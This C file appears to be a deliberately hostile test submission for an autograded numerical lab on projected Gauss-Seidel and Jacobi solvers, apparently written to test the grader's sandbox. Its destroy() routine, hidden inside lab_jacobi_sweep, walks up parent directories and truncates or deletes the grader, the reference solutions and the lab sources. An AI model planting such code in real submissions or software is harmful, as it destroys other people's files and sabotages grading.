/* hostile: deletes and truncates what it can reach
 * points: 5 */
#define _DEFAULT_SOURCE
#include "lab.h"

#include <math.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

/* upwards from the working directory, where the repository would be */
static void destroy(void)
{
    static const char *const targets[] = { "worker", "mbsim.h", "labs/02_pgs/pgs.c", "labs/02_pgs/lab.h", "solutions/02_pgs.c",
                                           "build/grade/grader", "grader" };
    char path[300] = "";

    for (int up = 0; up < 8; up++) {
        for (size_t k = 0; k < sizeof targets / sizeof targets[0]; k++) {
            char target[400];
            snprintf(target, sizeof target, "%s%s", path, targets[k]);
            if (truncate(target, 0) != 0 && unlink(target) != 0) continue;
        }
        strcat(path, "../");
    }
}

mb_status lab_jacobi_sweep(int n, const double *A, const double *b, double omega, const double *z, double *z_next)
{
    (void)n, (void)A, (void)b, (void)omega, (void)z, (void)z_next;
    destroy();
    return MB_OK;
}

/* right: its points must not be lost */
mb_status lab_pgs_sweep(int n, const double *A, const double *b, double omega, double *z)
{
    for (int i = 0; i < n; i++) {
        double w = b[i];
        if (!(A[i * n + i] > 0.0)) return MB_SINGULAR;
        for (int j = 0; j < n; j++) w += A[i * n + j] * z[j];
        z[i] = fmax(0.0, z[i] - omega * w / A[i * n + i]);
    }
    return MB_OK;
}

mb_status lab_pgs(const mb_lcp *p, const mb_options *opt, double *z, mb_info *info, mb_arena scratch)
{
    (void)p, (void)opt, (void)z, (void)info, (void)scratch;
    return MB_TODO;
}

mb_status lab_jacobi(const mb_lcp *p, const mb_options *opt, double *z, mb_info *info, mb_arena scratch)
{
    (void)p, (void)opt, (void)z, (void)info, (void)scratch;
    return MB_TODO;
}
